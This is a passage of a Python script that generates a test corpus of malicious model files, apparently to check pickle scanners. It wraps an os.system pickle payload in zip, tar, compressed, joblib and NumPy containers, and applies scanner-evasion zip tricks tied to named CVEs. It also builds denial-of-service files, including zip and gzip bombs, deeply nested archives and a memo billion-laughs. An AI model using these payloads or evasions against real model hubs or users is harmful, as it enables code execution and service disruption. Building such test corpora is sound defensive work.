    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    ver = pickle.dumps(1001, protocol=2)
    si = sys_info_pkl or pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                       "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    keys = pickle.dumps([], protocol=2)
    return magic + ver + si + main_pkl + keys


def _containers(outdir, big):
    pay = pk.os_system(2)
    tz = pk.torch_zip
    case("torch_zip_data_pkl.pt", "PyTorch zip with the payload in archive/data.pkl", R_PS, tz(pay), ["os.system"])
    case("torch_zip_other_name.pt", "PyTorch zip whose archive folder has another name", R_PS,
         tz(pay, name="my_model"), ["os.system"])
    case("torch_zip_member_other_name.pt", "payload in a member that is not data.pkl (archive/data/0)", R_PS,
         tz(pickle_benign(), extra={"data/0": pay}), ["os.system"])
    case("torch_zip_second_pickle.pt", "payload in a second .pkl member", R_PS,
         tz(pickle_benign(), extra={"extra.pkl": pay}), ["os.system"])
    case("torch_zip_constants_pkl.pt", "payload in constants.pkl (TorchScript archive)", R_PS,
         tz(pickle_benign(), extra={"constants.pkl": pay, "code/__torch__.py": b"x = 1\n"}), ["os.system"])
    benign_ent = {"name": "archive/data.pkl", "data": pickle_benign()}
    evil_ent = {"name": "archive/data.pkl", "data": pay}
    ver = {"name": "archive/version", "data": b"3\n"}
    case("zip_bad_crc.pt", "wrong CRC-32 on data.pkl (PyTorch ignores it; zipfile raises)", "CVE-2025-10156",
         pk.zip_raw([dict(evil_ent, crc=0xDEADBEEF), ver]), ["os.system"])
    case("zip_name_mismatch.pt", "local header name differs from the central directory name", "CVE-2025-1944",
         pk.zip_raw([dict(evil_ent, local_name="archive/readme.txt"), ver]), ["os.system"])
    case("zip_flag_bits.pt", "reserved general-purpose flag bits set on data.pkl", "CVE-2025-1945",
         pk.zip_raw([dict(evil_ent, flags=0x0006 | 0x4000), ver]), ["os.system"])
    case("zip_encrypted_flag.pt", "encrypted flag set on a stored, unencrypted data.pkl", "CVE-2025-1945",
         pk.zip_raw([dict(evil_ent, flags=0x0001), ver]), expect="not_clean", bonus=["os.system"])
    case("zip_dup_benign_first.pt", "duplicate data.pkl names: benign first, payload second", "CVE-2025-1944",
         pk.zip_raw([benign_ent, evil_ent, ver]), ["os.system"])
    case("zip_dup_evil_first.pt", "duplicate data.pkl names: payload first, benign second", "CVE-2025-1944",
         pk.zip_raw([evil_ent, benign_ent, ver]), ["os.system"])
    case("zip_prepended.pt", "data prepended before the zip (self-extractor layout)", R_PS,
         pk.zip_raw([evil_ent, ver], prefix=b"MZ" + b"\0" * 510), ["os.system"])
    case("zip_trailing.pt", "trailing data after the end-of-central-directory record", R_PS,
         pk.zip_raw([evil_ent, ver], suffix=b"\0" * 300), ["os.system"])
    case("zip_overlap.pt", "two central entries share one local record (overlapping entries)", R_PS,
         pk.zip_raw([{"name": "archive/notes.txt", "data": pay}, {"name": "archive/data.pkl", "same_as": 0}, ver]),
         ["os.system"])
    case("zip_deflate.pt", "payload deflated inside the zip", R_PS,
         pk.zip_raw([dict(evil_ent, method=8), ver]), ["os.system"])
    inner_zip = tz(pay)
    case("zip_in_zip.zip", "PyTorch zip inside a zip", R_PS,
         pk.zip_raw([{"name": "model.pt", "data": inner_zip}]), ["os.system"])
    case("zip_in_tar.tar", "PyTorch zip inside a tar", R_PS, _tar([("model.pt", inner_zip)]), ["os.system"])
    case("pickle_in_tar_gz.tar.gz", "pickle inside a tar.gz", R_PS,
         _tar([("model/data.pkl", pay)], "w:gz"), ["os.system"])
    case("pickle.gz", "gzip-wrapped pickle", R_NULLIFAI, gzip.compress(pay, mtime=0), ["os.system"])
    case("pickle.bz2", "bzip2-wrapped pickle", R_NULLIFAI, bz2.compress(pay), ["os.system"])
    case("pickle.xz", "xz-wrapped pickle", R_NULLIFAI, lzma.compress(pay), ["os.system"])
    case("pickle.lzma", "lzma-alone-wrapped pickle", R_NULLIFAI, lzma.compress(pay, format=lzma.FORMAT_ALONE), ["os.system"])
    case("pickle.zlib", "raw zlib stream of a pickle (joblib compress=zlib layout)", R_NULLIFAI,
         zlib.compress(pay), ["os.system"])
    if shutil.which("zstd"):
        zs = subprocess.run(["zstd", "-q", "-c"], input=pay, capture_output=True, check=True).stdout
        case("pickle.zst", "zstd-wrapped pickle", R_NULLIFAI, zs, ["os.system"])
    case("torch_zip_in_gz.pt.gz", "gzip-wrapped PyTorch zip", R_NULLIFAI, gzip.compress(inner_zip, mtime=0), ["os.system"])
    case("torch_legacy_main.pt", "PyTorch legacy format, payload in the main pickle", R_PS,
         _legacy_torch(pay), ["os.system"], wellformed=False)
    case("torch_legacy_sys_info.pt", "PyTorch legacy format, payload in the sys_info pickle", R_PS,
         _legacy_torch(pickle_benign(), sys_info_pkl=pay), ["os.system"], wellformed=False)
    case("torch_legacy_tar.pt", "PyTorch legacy tar (sys_info, pickle, storages, tensors) with payload in 'pickle'",
         R_PS, _tar([("sys_info", pickle_benign()), ("pickle", pay), ("storages", pickle_list0()),
                     ("tensors", pickle_list0())]), ["os.system"])
    joblib_like = pk.proto(4) + red(g("os", "system"), u(CMD)) + POP + EMPTY_DICT + STOP
    case("joblib_plain.joblib", "joblib file (uncompressed) whose pickle carries the payload", R_PS,
         joblib_like, ["os.system"])
    case("joblib_zlib.joblib", "joblib compress=zlib with the payload", R_PS, zlib.compress(joblib_like, 3), ["os.system"])
    case("joblib_xz.joblib", "joblib compress=xz with the payload", R_PS, lzma.compress(joblib_like), ["os.system"])
    case("joblib_lzma.joblib", "joblib compress=lzma with the payload", R_PS,
         lzma.compress(joblib_like, format=lzma.FORMAT_ALONE), ["os.system"])
    case("joblib_gzip.joblib", "joblib compress=gzip with the payload", R_PS, gzip.compress(joblib_like, mtime=0), ["os.system"])
    case("joblib_bz2.joblib", "joblib compress=bz2 with the payload", R_PS, bz2.compress(joblib_like), ["os.system"])
    npy = _npy_header("|O", "(1,)") + pay
    case("object_array.npy", ".npy object array whose pickle is malicious", R_PS, npy, ["os.system"])
    case("object_array.npz", ".npz with a malicious object-array member", R_PS,
         pk.zip_raw([{"name": "ok.npy", "data": _npy_header("<f4", "(2,)") + b"\0" * 8},
                     {"name": "evil.npy", "data": npy}]), ["os.system"])
    case("object_array_compressed.npz", "savez_compressed-style .npz with a deflated malicious member", R_PS,
         pk.zip_raw([{"name": "evil.npy", "data": npy, "method": 8}]), ["os.system"])
    d2 = "{'descr': '|O', 'fortran_order': True, 'shape': (1, 1), }"
    h2 = (d2 + " " * ((64 - (12 + len(d2) + 1) % 64) % 64) + "\n").encode("latin1")
    case("object_array_v2.npy", ".npy format 2.0 (4-byte header length), Fortran-order object array, malicious pickle",
         R_PS, b"\x93NUMPY\x02\x00" + struct.pack("<I", len(h2)) + h2 + pay, ["os.system"])
    case("zip_two_archives.pt", "a benign zip followed by a malicious one (loaders read the last EOCD)", "CVE-2025-1944 class",
         pk.zip_raw([benign_ent, ver]) + pk.zip_raw([evil_ent, ver]), ["os.system"])
    for ext in ["txt", "png", "safetensors", "bin", "h5", "json", "onnx"]:
        case(f"misleading_ext.{ext}", f"pickle payload with a misleading .{ext} extension", "CVE-2025-1889 / CVE-2025-10155",
             pay, ["os.system"])
    case("misleading_zip.safetensors", "PyTorch zip named .safetensors", "CVE-2025-10155", tz(pay), ["os.system"])
    if shutil.which("7z"):
        case("pickle.7z", "7z-wrapped pickle (nullifAI)", R_NULLIFAI, lambda d: _7z(d, "data.pkl", pay), ["os.system"])
        case("torch_zip.7z", "7z-wrapped PyTorch zip (nullifAI)", R_NULLIFAI, lambda d: _7z(d, "model.pt", inner_zip),
             ["os.system"])


def _7z(tmp, name, data):
    work = os.path.join(tmp, ".7zwork")
    os.makedirs(work, exist_ok=True)
    with open(os.path.join(work, name), "wb") as f:
        f.write(data)
    out = os.path.join(work, "out.7z")
    if os.path.exists(out):
        os.unlink(out)
    subprocess.run(["7z", "a", "-bd", "-y", out, name], cwd=work, check=True, stdout=subprocess.DEVNULL)
    with open(out, "rb") as f:
        b = f.read()
    shutil.rmtree(work)
    return b


def pickle_benign():
    return proto(2) + EMPTY_DICT + u("weight") + EMPTY_LIST + pk.binint(1) + APPEND + SETITEM + STOP


def pickle_list0():
    return proto(2) + EMPTY_LIST + STOP


# ---------------------------------------------------------------- 7. denial of service
def _dos(big):
    pay_tail = red(g("os", "system"), u(CMD)) + STOP
    case("dos_marks.pkl", "1,000,000 nested MARKs", "denial of service",
         proto(2) + MARK * 1_000_000 + pay_tail, expect="not_clean", dos=True, wellformed=False)
    case("dos_nested_lists.pkl", "500,000-deep nested lists (EMPTY_LIST + APPEND chains)", "denial of service",
         proto(2) + MARK * 500_000 + LIST * 500_000 + POP + pay_tail, expect="not_clean", dos=True,
         bonus=["os.system"], wellformed=False)
    case("dos_huge_len_unicode8.pkl", "BINUNICODE8 declaring 2^62 bytes", "denial of service",
         proto(4) + b"\x8d" + struct.pack("<Q", 1 << 62) + b"abc", expect="not_clean", dos=True, wellformed=False)
    case("dos_huge_len_binbytes8.pkl", "payload then BINBYTES8 declaring 2^63-1 bytes", "denial of service",
         proto(4) + red(g("os", "system"), u(CMD)) + b"\x8e" + struct.pack("<Q", (1 << 63) - 1) + b"x",
         ["os.system"], dos=True, wellformed=False)
    # billion laughs: each level is a list of 10 references to the previous level
    b = proto(2) + EMPTY_LIST + pk.long_binput(0)
    for lvl in range(1, 40):
        b += MARK + pk.long_binget(lvl - 1) * 10 + LIST + pk.long_binput(lvl)
    b += POP * 39 + POP + pay_tail
    case("dos_billion_laughs.pkl", "memo billion laughs: 40 levels x 10 references (10^39 leaves)",
         "denial of service", b, expect="not_clean", dos=True, bonus=["os.system"], wellformed=False)
    b = proto(2) + u("x" * 1000)
    b += DUP * 200_000 + TUPLE1 * 0
    case("dos_dup_storm.pkl", "200,000 DUPs of a 1 kB string", "denial of service",
         b + MARK + TUPLE + POP + pay_tail, expect="not_clean", dos=True, bonus=["os.system"], wellformed=False)
    case("dos_many_memo.pkl", "1,000,000 memo puts with huge indices", "denial of service",
         proto(2) + NONE + b"".join(pk.long_binput(0x7FFFFFF0 - i) for i in range(100_000)) + POP + pay_tail,
         expect="not_clean", dos=True, bonus=["os.system"], wellformed=False)
    if big:
        case("dos_zip_bomb.pt", "zip bomb: 1 GiB of zeros deflated in data.pkl", "denial of service",
             lambda d: _zip_bomb(1 << 30), expect="not_clean", dos=True)
    case("dos_zip_bomb_small.pt", "zip member with a 1:1000 ratio before the payload member", "denial of service",
         lambda d: _zip_bomb(64 << 20, tail=True), expect="not_clean", dos=True, bonus=["os.system"])
    case("dos_many_members.zip", "60,000 zip members, payload last", "denial of service",
         lambda d: pk.zip_raw([{"name": f"m/{i:05d}"} for i in range(60000)] +
                              [{"name": "archive/data.pkl", "data": pk.os_system(2)}]),
         expect="not_clean", dos=True, bonus=["os.system"])
    deep = pk.torch_zip(pk.os_system(2))
    for i in range(60):
        deep = pk.zip_raw([{"name": f"level{i}.zip", "data": deep}])
    case("dos_deep_zip.zip", "60 levels of zip inside zip, payload innermost", "denial of service",
         deep, expect="not_clean", dos=True, bonus=["os.system"])
    deep = pk.os_system(2)
    for i in range(60):
        deep = gzip.compress(deep, mtime=0)
    case("dos_deep_gzip.gz", "60 levels of gzip, payload innermost", "denial of service",
         deep, expect="not_clean", dos=True, bonus=["os.system"])
    case("dos_gzip_bomb.gz", "gzip of 512 MiB zeros", "denial of service",
         lambda d: _gz_bomb(512 << 20), expect="not_clean", dos=True)


def _zip_bomb(n, tail=False):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\0" * (1 << 20)
    comp = b"".join(c.compress(chunk) for _ in range(n >> 20)) + c.flush()
    crc = 0
    for _ in range(n >> 20):
        crc = zlib.crc32(chunk, crc)
    ents = [{"name": "archive/data.pkl" if not tail else "archive/padding.bin", "method": 8, "raw": (comp, n, crc)}]
    if tail:
        ents.append({"name": "archive/data.pkl", "data": pk.os_system(2)})
    return pk.zip_raw(ents)


def _gz_bomb(n):
    bio = io.BytesIO()
    with gzip.GzipFile(fileobj=bio, mode="wb", compresslevel=9, mtime=0) as f:
        chunk = b"\0" * (1 << 20)
        for _ in range(n >> 20):
            f.write(chunk)
    return bio.getvalue()


# ---------------------------------------------------------------- driver
def check_wellformed(name, data):
    """Every opcode parses and the stream ends with STOP (pickletools executes nothing)."""
    ops = list(pickletools.genops(data))
    if ops[-1][0].name != "STOP":
        raise AssertionError(f"{name}: does not end with STOP")
    return ops


def check_oracle(c, data):
    """The expected callables are what the bytes import (tests/gen/oracle.py, genops only)."""
    got = set(oracle.imports(data))
    for want in c["callables"]:
        alts = set(want.split("|"))
        if not alts & got:
            raise AssertionError(f"{c['file']}: expected {want}, the bytes import {sorted(got)}")


def build_all(outdir, big=True, only=None, check=False, files=None):
    CASES.clear()
    _direct()
    _nested()
    _gadgets()
    _opcodes()
    _streams()
    _containers(outdir, big)
    _dos(big)
    os.makedirs(outdir, exist_ok=True)
    meta = []
    seen = set()
    for c in CASES:
        if only and only not in c["file"]:
            continue
        if files is not None and c["file"] not in files:
            continue
        if c["file"] in seen:
            raise AssertionError("duplicate case file " + c["file"])
        seen.add(c["file"])
        data = c["data"](outdir) if callable(c["data"]) else c["data"]
        if check and c["wellformed"] and c["file"].endswith(".pkl"):
            check_wellformed(c["file"], data)
        if check and (c["file"].endswith(".pkl") or c["file"].startswith("misleading_ext")) and c["callables"]:
            check_oracle(c, data)
        with open(os.path.join(outdir, c["file"]), "wb") as f:
            f.write(data)
        m = {k: v for k, v in c.items() if k not in ("data", "wellformed")}
        meta.append(m)
    with open(os.path.join(outdir, "cases.json"), "w") as f:
        json.dump(meta, f, indent=1)
    return meta


def main(argv):
    if len(argv) < 2:
        print(__doc__, file=sys.stderr)
        return 2
    only = None
    if "--only" in argv:
        only = argv[argv.index("--only") + 1]
    files = None
    if "--files" in argv:
        files = set(argv[argv.index("--files") + 1].split(","))
    meta = build_all(argv[1], big="--no-big" not in argv, only=only, check="--check" in argv, files=files)
    if files is not None and len(meta) != len(files):
        print(f"gen_malicious: unknown case file(s): {sorted(files - {m['file'] for m in meta})}", file=sys.stderr)
        return 2
    print(f"gen_malicious: wrote {len(meta)} cases to {argv[1]}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
